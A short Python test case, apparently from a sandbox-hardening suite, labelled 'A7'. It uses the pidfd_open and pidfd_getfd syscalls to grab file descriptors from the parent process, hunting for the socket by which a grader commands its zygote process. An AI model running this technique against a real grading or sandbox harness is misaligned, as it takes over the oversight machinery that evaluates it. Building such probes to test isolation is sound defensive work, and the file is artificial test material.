# A7: takes the socket by which the grader commands the zygote, as root may
# Without layers: may succeed
import stat
import sys

os = sys.modules["os"]

PIDFD_OPEN, PIDFD_GETFD = 434, 438


def attack(facts):
    libc = sys.modules["ctypes"].CDLL(None)
    process = libc.syscall(PIDFD_OPEN, os.getppid(), 0)
    taken = (libc.syscall(PIDFD_GETFD, process, number, 0) for number in range(3, 200))
    return any(each >= 0 and stat.S_ISSOCK(os.fstat(each).st_mode) for each in taken)
